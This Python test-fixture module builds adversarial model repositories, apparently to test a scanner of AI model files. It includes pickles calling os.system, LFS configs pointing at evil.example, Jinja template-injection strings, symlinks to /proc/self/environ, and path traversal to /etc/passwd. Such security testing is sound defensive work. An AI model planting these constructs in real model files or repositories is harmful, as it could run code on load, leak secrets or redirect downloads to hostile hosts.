"""Attacks by names, links, pointers and the files beside a model."""

import hashlib
import json
import os
from pathlib import Path

import raw
from attack import Attack, Write, file, files
from make_fixtures import write_bert

GGUF = bytes(raw.Gguf())
NAME, CODE, UNREAD = "deceptive-name", "remote-code", "not-examined"
BROKEN = "malformed-header"
MANIFEST = "application/vnd.docker.distribution.manifest.v2+json"
MODEL = "application/vnd.ollama.image.model"


def named(name: str, known: str, file_name: str) -> Attack:
    """Return a valid model under a name that deceives."""
    return Attack(name, known, file(file_name, GGUF), NAME, file_name)


def companion(name: str, known: str, beside: str, content: object, rule: str = CODE) -> Attack:
    """Return a model of the hub with a file beside it; what it says is added to what it said."""

    def write(directory: Path) -> None:
        write_bert(directory)
        path = directory / beside
        path.parent.mkdir(exist_ok=True)
        if isinstance(content, dict) and path.exists():
            path.write_text(json.dumps({**json.loads(path.read_text()), **content}))
        else:
            path.write_text(content if isinstance(content, str) else json.dumps(content))

    return Attack(name, known, write, rule, "model.safetensors")


def above(
    name: str, known: str, path: str, content: object, weights: str, rule: str = CODE
) -> Attack:
    """Return weights in a directory below the one that is loaded, where a file names code."""

    def write(directory: Path) -> None:
        (directory / weights).parent.mkdir(parents=True)
        (directory / weights).write_bytes(raw.safetensors(raw.header({"w": raw.entry()}), bytes(8)))
        (directory / path).write_text(content if isinstance(content, str) else json.dumps(content))

    return Attack(name, known, write, rule, weights)


def behind(hides: str) -> str:
    """Return modules whose class stands behind what only some readers of JSON read."""
    return f'[{{"idx": 0, "name": "0", "path": "0_X", "x": {hides}, "type": "evil.Module"}}]'


def linked_out(directory: Path) -> None:
    """Write weights below a link to modules that are outside of the repository."""
    path = directory / "0_X" / "model.safetensors"
    path.parent.mkdir()
    path.write_bytes(raw.safetensors(raw.header({"w": raw.entry()}), bytes(8)))
    (directory / "modules.json").symlink_to("/proc/self/environ")


def pointer(oid: str, size: int) -> str:
    """Return a pointer to content that is not there."""
    return f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {size}\n"


def stored(named: bytes, content: bytes, name: str = "a.gguf") -> Write:
    """Return a writer of a pointer under whose oid the store of the repository has this."""
    oid = hashlib.sha256(named).hexdigest()
    store = f".git/lfs/objects/{oid[:2]}/{oid[2:4]}/{oid}"
    return files({name: pointer(oid, len(named)), store: content})


def stored_pickle_behind(start: str) -> Write:
    """Return a writer of a pointer that starts otherwise, to a pickle in the store."""

    def write(directory: Path) -> None:
        content = b"cos\nsystem\n(S'id'\ntR."
        stored(content, content)(directory)
        text = (directory / "a.gguf").read_text()
        (directory / "a.gguf").unlink()
        (directory / "weights.bin").write_text(start + text.partition("\n")[2])

    return write


def lfs_config(name: str, text: str, rule: str = "unlisted-destination") -> Attack:
    """Return a pointer in a repository that says where its content is."""
    contents = {"a.gguf": pointer("0" * 64, 4), ".lfsconfig": text}
    return Attack(name, "", files(contents), rule, ".lfsconfig")


def index(name: str) -> bytes:
    """Return an index of git that lists one file."""
    entry = bytes(60) + len(name).to_bytes(2, "big") + name.encode()
    padding = bytes(8 - len(entry) % 8)
    return b"DIRC" + (2).to_bytes(4, "big") + (1).to_bytes(4, "big") + entry + padding


def hidden_config(config: str) -> Write:
    """Return a writer of an index with hashes of SHA-256 and a configuration that says so too late."""
    entry = (bytes(72) + b"\0\x0a.lfsconfig").ljust(88, b"\0")
    listed = b"DIRC" + (2).to_bytes(4, "big") + (1).to_bytes(4, "big") + entry
    config += "[extensions]\n\tobjectformat = sha256\n"
    contents = {"a.gguf": pointer("0" * 64, 4), ".git/index": listed, ".git/config": config}
    return files(contents)


def polyglot_config(directory: Path) -> None:
    """Write a .lfsconfig that includes another file, in a comment that is a model."""
    config = b"\n[include]\n\tpath = evil.config\n"
    entry = raw.entry("U8", (len(config),), 0, len(config))
    # The length of the header starts with the sign of a comment.
    model = raw.safetensors(raw.header({"w": entry}).ljust(ord("#") + 256), config)
    (directory / ".lfsconfig").write_bytes(model)


def stored_config(directory: Path) -> None:
    """Write a pointer to a configuration that names code beside the model it is about."""
    config = b'{"auto_map": {"AutoModel": "modeling.Evil"}}'
    write_bert(directory)
    stored(config, config)(directory)
    (directory / "a.gguf").rename(directory / "config.json")


def stored_pickle(directory: Path) -> None:
    """Write a pointer to a pickle that calls something, under a name that is no model's."""
    program = b"cos\nsystem\n(S'id'\ntR."
    stored(program, program)(directory)
    (directory / "a.gguf").rename(directory / "notes.txt")


def locked(content: bytes | str) -> Write:
    """Return a writer of a file that the lock knows as another one."""
    digest = hashlib.sha256(GGUF).hexdigest()
    entry = {
        "path": "a.gguf",
        "size": len(GGUF),
        "sha256": digest,
        "pinned_by": "first-use",
        "facts": {"format": "gguf", "quantization:verdict": "unclaimed"},
    }
    lock = f'{{\n"version": 1,\n"files": [\n{json.dumps(entry)}\n]\n}}\n'
    return files({"a.gguf": content, "lbom.lock": lock})


def ollama(digest: str) -> Attack:
    """Return a manifest of a model whose layer has this for a digest."""
    layer = {"mediaType": MODEL, "digest": digest, "size": 4}
    manifest = {"schemaVersion": 2, "mediaType": MANIFEST, "config": {**layer, "mediaType": "application/vnd.docker.container.image.v1+json"}, "layers": [layer]}  # fmt: skip
    path = "manifests/registry.ollama.ai/library/m/latest"
    return Attack(
        "a digest that is a path", "CVE-2024-37032", file(path, json.dumps(manifest)),
        "external-data-escape", path,
    )  # fmt: skip


def link(target: str) -> Write:
    """Return a writer of a link named like a model."""
    return lambda directory: (directory / "a.gguf").symlink_to(target)


def sparse(directory: Path) -> None:
    """Write a header of 2^60 keys before a hole of 64 MiB."""
    (directory / "a.gguf").write_bytes(bytes(raw.Gguf(n_keys=1 << 60)))
    os.truncate(directory / "a.gguf", 1 << 26)


def collide(directory: Path) -> None:
    """Write two models that one file system takes for one."""
    for name in ("Model.gguf", "model.gguf"):
        (directory / name).write_bytes(GGUF)


def twins(directory: Path) -> None:
    """Write two models whose names differ in how an accent is put together."""
    for name in ("mod\u00e8le.gguf", "mode\u0300le.gguf"):
        (directory / name).write_bytes(GGUF)


def indexes(directory: Path) -> None:
    """Write more indexes beside a model than are read."""
    (directory / "model.safetensors").write_bytes(raw.safetensors(raw.header({"w": raw.entry()}), bytes(8)))  # fmt: skip
    for number in range(65):
        index = {"weight_map": {"w": f"part-{number}.safetensors"}}
        (directory / f"a{number:02}.safetensors.index.json").write_text(json.dumps(index))


def unwritable(directory: Path) -> None:
    """Make a FIFO that is named like a model."""
    os.mkfifo(directory / "a.gguf")


def sharded(weight_map: dict[str, str]) -> Write:
    """Return a writer of a part and the index beside it."""
    part = raw.safetensors(raw.header({"w": raw.entry()}), bytes(8))
    index = json.dumps({"metadata": {"total_size": 8}, "weight_map": weight_map})
    return files({"model-00001-of-00002.safetensors": part, "model.safetensors.index.json": index})


PART = "model-00001-of-00002.safetensors"

ATTACKS = [
    Attack("a suffix of another format", "", file("a.safetensors", GGUF), "extension-mismatch", "a.safetensors"),
    Attack("weights under a suffix of no model", "", file("notes.txt", GGUF), "extension-mismatch", "notes.txt"),
    Attack("a pickle behind a text longer than what is sniffed", "", file("notes.txt", b"V" + b"a" * 5000 + b"\n0cos\nsystem\n(S'id'\ntR."), "unsafe-import", "notes.txt"),
    named("a name that is read backwards", "RLO", "a\u202efugg.gguf"),
    named("a character that is not seen", "", "a\u200bb.gguf"),
    named("letters of two alphabets", "", "m\u043edel.gguf"),
    named("a device of Windows", "", "con.gguf"),
    named("a suffix that runs behind a model's", "", "model.gguf.exe"),
    named("a space at the end", "", "model.gguf "),
    Attack("names that differ in case only", "", collide, NAME, "model.gguf"),
    Attack("names that differ in their accents only", "", twins, NAME, "mod\u00e8le.gguf"),
    Attack("a pointer without its content", "", file("a.gguf", pointer("0" * 64, 4)), UNREAD, "a.gguf"),
    Attack("a pointer to other content than the lock knows", "LFS pointer swap", locked(pointer("0" * 64, len(GGUF))), "digest-mismatch", "a.gguf"),
    Attack("a pointer whose object in the store is another file", "LFS pointer swap", stored(GGUF, bytes(raw.Gguf(data=b"\1" * 128))), "digest-mismatch", "a.gguf"),
    Attack("a pointer whose object in the store is longer", "LFS pointer swap", stored(GGUF, GGUF + b"\0"), "digest-mismatch", "a.gguf"),
    Attack("bytes that nothing knows behind a pointer to others", "LFS pointer swap", stored(b"\1" * 64, b"\2" * 64, "weights.bin"), "digest-mismatch", "weights.bin"),
    Attack("a pickle behind a pointer that is named like a text", "", stored_pickle, "unsafe-import", "notes.txt"),
    Attack("a pickle behind a pointer of git-media", "", stored_pickle_behind("version http://git-media.io/v/2\n"), "unsafe-import", "weights.bin"),
    Attack("a pickle behind a pointer of hawser", "", stored_pickle_behind("version https://hawser.github.com/spec/v1\n"), "unsafe-import", "weights.bin"),
    Attack("a pickle behind a pointer that starts with white space", "", stored_pickle_behind("\u00a0\n version https://git-lfs.github.com/spec/v1\n"), "unsafe-import", "weights.bin"),
    lfs_config("another host for the content behind pointers", "[lfs]\nurl = https://evil.example/x\n"),
    lfs_config("another host to put content", "[lfs]\npushurl = git@evil.example:x\n"),
    lfs_config("another host for one remote", '[remote "origin"]\nlfsurl = https://evil.example/x\n'),
    lfs_config("a host behind a line break within a value", '[lfs]\nfetchexclude = "x\\nlfs.url=https://evil.example/x"\n'),
    lfs_config("a host in the name of a section", '[lfs "url=https://evil.example/"]\nx\n'),
    lfs_config("a host as the remote that is asked", "[remote]\nlfsdefault = https://evil.example/x\n"),
    lfs_config("a host behind an allowed name that is its user", "[lfs]\nurl = huggingface.co:x@evil.example:y\n"),
    lfs_config("a host in front of git's own protocol", "[lfs]\ngitprotocol = https://evil.example/x?\n"),
    Attack("a .lfsconfig that is in the index and not checked out", "", files({"a.gguf": pointer("0" * 64, 4), ".git/index": index(".lfsconfig")}), UNREAD, ".lfsconfig"),
    Attack("a .lfsconfig that is a model too", "", polyglot_config, UNREAD, ".lfsconfig"),
    lfs_config("a host in a file that .lfsconfig includes", "[include]\npath = x.config\n", UNREAD),
    Attack("a .lfsconfig in an index of hashes that are not known", "", hidden_config("[core]\n\tx = 1\n" * 100_000), UNREAD, ".lfsconfig"),
    Attack("a .lfsconfig in an index beside a configuration that git refuses", "", hidden_config("[broken"), UNREAD, ".lfsconfig"),
    lfs_config("a .lfsconfig that readers read differently", "[lfs]\nurl = https://good.example\0.evil.example\n", UNREAD),
    Attack("weights changed in place", "HiddenLayer 2024", locked(bytes(raw.Gguf(data=b"\1" * 128))), "digest-mismatch", "a.gguf"),
    companion("code that the configuration names", "trust_remote_code", "config.json", {"auto_map": {"AutoModel": "modeling.Evil"}}),
    companion("code that the configuration names for all", "trust_remote_code", "config.json", {"auto_map": "modeling.Evil"}),
    companion("a file of code", "mlx-lm", "config.json", {"model_file": "evil.py"}),
    companion("a function as the activation of a layer", "sentence-transformers", "config.json", {"in_features": 4, "out_features": 4, "activation_function": "os.abort"}),
    companion("a kernel of a repository", "", "config.json", {"attn_implementation": "evil/kernel"}),
    companion("code that is trusted by a text", "", "config.json", {"trust_remote_code": "true"}),
    companion("code that is trusted beside the modules", "", "sentence_bert_config.json", {"trust_remote_code": True}),
    companion("code of a processor of videos", "", "video_preprocessor_config.json", {"auto_map": {"AutoVideoProcessor": "video.Evil"}}),
    companion("a template among the special tokens", "", "special_tokens_map.json", {"chat_template": "{{ ''.__class__ }}"}, "template-code"),
    companion("a template behind a pointer", "", "chat_template.jinja", pointer("0" * 64, 4), UNREAD),
    Attack("code that a configuration behind a pointer names", "trust_remote_code", stored_config, CODE, "model.safetensors"),
    companion("a template between what looks like comments", "", "chat_template.jinja", "{#} {% raw %} #}{{ ''.__class__ }}{# {% endraw %} #}", "template-code"),
    companion("a name that goes on in the next line", "", "chat_template.jinja", "{{ ''['_\\\n_cla\\\nss_\\\n_'] }}", "template-code"),
    companion("code in another repository", "trust_remote_code", "config.json", {"auto_map": {"AutoModel": "evil/repo--modeling.Evil"}}),
    companion("code that the tokenizer names", "trust_remote_code", "tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["tokenization.Evil", None]}}),
    companion("a module of sentence-transformers", "", "modules.json", [{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}]),
    above("a module of sentence-transformers above the weights", "", "modules.json", [{"idx": 0, "name": "0", "path": "0_Transformer", "type": "evil.Module"}], "0_Transformer/model.safetensors"),
    above("a module behind lists that are too deep", "", "modules.json", behind("[" * 130 + "]" * 130), "0_X/model.safetensors", BROKEN),
    above("a module behind half of a character", "", "modules.json", behind('"\\ud800"'), "0_X/model.safetensors", BROKEN),
    companion("a module behind lists that are too deep, beside the weights", "", "modules.json", behind("[" * 130 + "]" * 130), BROKEN),
    Attack("modules behind a link out of the repository", "", linked_out, UNREAD, "0_X/model.safetensors"),
    above("a module behind a router of sentence-transformers", "", "router_config.json", {"types": {"query_0_Evil": "evil.Module"}, "structure": {"query": ["query_0_Evil"]}, "parameters": {}}, "query_0_Evil/model.safetensors"),
    above("a module above a router of sentence-transformers", "", "modules.json", [{"idx": 0, "name": "0", "path": "0_Router", "type": "evil.Router"}], "0_Router/query_0_Transformer/model.safetensors"),
    above("a component of a pipeline that is code", "diffusers", "model_index.json", {"_class_name": "StableDiffusionPipeline", "unet": ["evil", "UNet"]}, "unet/model.safetensors"),
    above("a component whose code has a name that is no word", "diffusers", "model_index.json", {"_class_name": "StableDiffusionPipeline", "unet": ["my-evil", "UNet"]}, "unet/model.safetensors"),
    above("a pipeline that is code", "diffusers", "model_index.json", {"_class_name": ["evil", "Pipeline"]}, "unet/model.safetensors"),
    above("a component that a modular pipeline hints at", "diffusers", "modular_model_index.json", {"_class_name": "M", "unet": [None, None, {"type_hint": ["evil", "UNet"]}]}, "unet/model.safetensors"),
    companion("a library of operators", "onnxruntime-genai", "genai_config.json", {"model": {"decoder": {"session_options": {"custom_ops_library": "evil.so"}}}}),
    companion("code in place of how a model generates", "transformers", "custom_generate/generate.py", "def generate(model, **kwargs): ..."),
    companion("a template of the tokenizer", "CVE-2024-34359", "tokenizer_config.json", {"chat_template": "{{ ''.__class__ }}"}, "template-code"),
    companion("a template of its own", "CVE-2024-34359", "chat_template.jinja", "{{ cycler.__init__.__globals__ }}", "template-code"),
    companion("a configuration that breaks off", "", "config.json", '{"architectures": [', "malformed-header"),
    Attack("a base model of a look-alike", "OpenCSS 2026", file("a.gguf", bytes(raw.Gguf(keys=[raw.LLAMA, raw.Key("general.base_model.count", 1, raw.U32), raw.Key("general.base_model.0.repo_url", "https://huggingface.co/meta-Ilama/Llama-3")]))), "unlisted-base-model", "a.gguf"),
    ollama("sha256:../../../../etc/passwd"),
    Attack("an index that leads out", "", sharded({"w": PART, "x": "../secret.safetensors"}), "incomplete-shards", PART),
    Attack("a part that is missing", "", sharded({"w": PART, "x": "model-00002-of-00002.safetensors"}), "incomplete-shards", PART),
    Attack("more indexes than are read", "", indexes, UNREAD, "model.safetensors"),
    Attack("a FIFO named like a model", "DoS", unwritable, UNREAD, "a.gguf"),
    Attack("a link to a device", "DoS", link("/dev/zero"), "symlink-escape", "a.gguf"),
    Attack("a link out of the repository", "", link("/proc/self/environ"), "symlink-escape", "a.gguf"),
    Attack("a link to itself", "DoS", link("a.gguf"), UNREAD, "a.gguf"),
    Attack("a hole behind a header that lies", "DoS", sparse, "malformed-header", "a.gguf"),
]  # fmt: skip
